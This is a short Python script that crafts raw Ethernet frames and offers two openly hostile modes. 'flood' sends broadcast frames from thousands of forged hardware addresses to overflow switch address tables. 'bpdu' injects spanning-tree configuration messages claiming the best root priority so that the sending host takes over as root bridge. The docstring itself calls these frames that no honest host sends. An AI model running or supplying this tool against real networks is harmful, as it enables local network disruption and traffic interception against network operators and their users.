#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""Frames that no honest host sends.

    frames.py flood COUNT [INTERFACE]    from as many hardware addresses
    frames.py bpdu COUNT [INTERFACE]     of a spanning tree whose root we say to be

INTERFACE is eth0 unless given.
"""

import socket
import struct
import sys
import time

LLC_STP = b"\x42\x42\x03"
STP_GROUP = bytes.fromhex("0180c2000000")
BROADCAST = b"\xff" * 6


def hardware(number):
    return b"\x02\xff" + struct.pack(">I", number)


def flood(raw, count):
    for number in range(count):
        raw.send(BROADCAST + hardware(number) + b"\x88\xb5" + b"\0" * 46)


def bpdu(raw, count):
    """IEEE 802.1D, 9.3.1: a configuration with the best priority that there is, 0."""
    own = raw.getsockname()[4]
    root = b"\0\0" + own
    message = struct.pack(">HBBB", 0, 0, 0, 0) + root + struct.pack(">I", 0) + root
    message += struct.pack(">HHHHH", 0x8001, 0, 20 * 256, 2 * 256, 15 * 256)
    body = LLC_STP + message
    for _ in range(count):
        raw.send(STP_GROUP + own + struct.pack(">H", len(body)) + body.ljust(46, b"\0"))
        time.sleep(0.1)


def main(arguments):
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind((arguments[2] if len(arguments) > 2 else "eth0", 0))
    {"flood": flood, "bpdu": bpdu}[arguments[0]](raw, int(arguments[1]))


if __name__ == "__main__":
    main(sys.argv[1:])
